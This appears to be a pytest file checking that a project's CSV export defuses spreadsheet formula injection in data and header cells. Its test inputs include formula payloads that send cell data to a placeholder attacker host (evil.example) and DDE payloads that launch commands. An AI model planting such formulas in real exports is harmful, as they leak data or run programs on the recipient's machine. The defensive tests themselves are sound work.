"""CSV exports neutralize spreadsheet formulas in every text cell, header included."""

from __future__ import annotations

import csv

import pandas as pd
import polars as pl
import pytest

from assay.io.export import FORMULA_PREFIXES, csv_text, neutralize_cell, write_csv

INJECTIONS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?d="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '=IMPORTXML(CONCAT("http://evil.example/", A1), "//a")',
    "＝1+1",  # full-width equals sign
    "＋1",
    "－1",
    "＠SUM(A1)",
]


@pytest.mark.parametrize("cell", INJECTIONS)
def test_formula_cells_get_an_apostrophe(cell):
    got = neutralize_cell(cell)
    assert got == "'" + cell


@pytest.mark.parametrize("cell", ["income", "a=b", "1-2", " =1", "", "über", "'=x"])
def test_plain_text_unchanged(cell):
    assert neutralize_cell(cell) == cell


@pytest.mark.parametrize("value", [-3, -0.5, 0, 1.5, None, True])
def test_numbers_and_null_unchanged(value):
    assert neutralize_cell(value) == value


def _read(path) -> list[list[str]]:
    with open(path, newline="", encoding="utf-8") as fh:
        return list(csv.reader(fh))


@pytest.mark.parametrize("kind", ["polars", "pandas", "records", "pair"])
def test_every_text_cell_and_header_neutralized(tmp_path, kind):
    header = ["=col", "share", "@group"]
    rows = [[c, 0.5, f"g{i}"] for i, c in enumerate(INJECTIONS)] + [["safe", -1.25, "-x"]]
    if kind == "polars":
        data = pl.DataFrame(rows, schema=header, orient="row")
    elif kind == "pandas":
        data = pd.DataFrame(rows, columns=header)
    elif kind == "records":
        data = [dict(zip(header, r, strict=True)) for r in rows]
    else:
        data = (header, rows)
    out = write_csv(data, tmp_path / "sub" / "findings.csv")
    got = _read(out)
    assert got[0] == ["'=col", "share", "'@group"]
    for line in got[1:-1]:
        for cell in line:
            assert not cell.startswith(FORMULA_PREFIXES), line
            assert cell[:1] not in "＝＋－＠", line
    assert got[-1] == ["safe", "-1.25", "'-x"]  # the number stays a number
    # Embedded newlines and quotes survive CSV quoting intact.
    assert got[1 + INJECTIONS.index("\r=1+1")][0] == "'\r=1+1"


def test_csv_text_matches_file(tmp_path):
    data = [{"column": "=1+1", "n": 3}]
    path = write_csv(data, tmp_path / "x.csv")
    assert path.read_bytes().decode("utf-8") == csv_text(data)


def test_write_is_atomic(tmp_path):
    """A failure while writing leaves no partial file and no temporary file behind."""

    class Boom:
        columns = ("a",)

        def iter_rows(self):
            yield ("ok",)
            raise RuntimeError("disk full")

    with pytest.raises(RuntimeError):
        write_csv(Boom(), tmp_path / "x.csv")
    assert list(tmp_path.iterdir()) == []
